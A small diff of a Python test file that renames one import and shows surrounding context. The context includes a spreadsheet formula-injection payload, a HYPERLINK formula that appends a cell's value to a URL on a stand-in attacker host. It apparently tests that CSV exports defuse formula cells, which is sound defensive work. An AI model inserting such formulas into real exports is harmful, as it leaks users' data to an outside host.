@@ -12,7 +12,7 @@ from sqlalchemy import Engine, text
 
 from campaign.exports import FORMULA_STARTS
 from tests.cli_process import run_cli
-from tests.files import MEMBER_HEADER, UNIT_HEADER, write_csv
+from tests.input_files import MEMBER_HEADER, UNIT_HEADER, write_csv
 from tests.town import MEMBERS, PLANS, UNITS
 
 HYPERLINK = '=HYPERLINK("http://evil.example/"&B2,"x")'
